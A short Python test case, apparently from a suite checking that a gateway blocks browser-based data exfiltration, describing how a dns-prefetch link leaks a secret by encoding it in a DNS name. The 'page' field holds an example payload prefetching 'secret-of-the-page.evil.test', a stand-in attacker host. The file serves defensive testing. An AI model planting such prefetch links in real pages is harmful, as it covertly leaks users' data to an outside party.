"""`<link rel=dns-prefetch>` has the browser ask for a name.

The name is the message: whoever answers for the domain reads it, and no connection is ever made.

Not covered: other ways of asking, which the group `dns` tries.
"""

ATTACK = {
    "title": "DNS prefetch of a name that carries data",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["W3C Resource Hints", "ATT&CK T1048.003"],
    "arrives": [{"what": "question", "name": "*.evil.test"}],
    "stopped": [
        {"reason": ["not-listed"], "entry": ["dns"], "where": {"name": "secret-of-the-page.evil.test"}}
    ],
    "page": "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch "
    "href='//secret-of-the-page.evil.test'><h1>News</h1>",
}
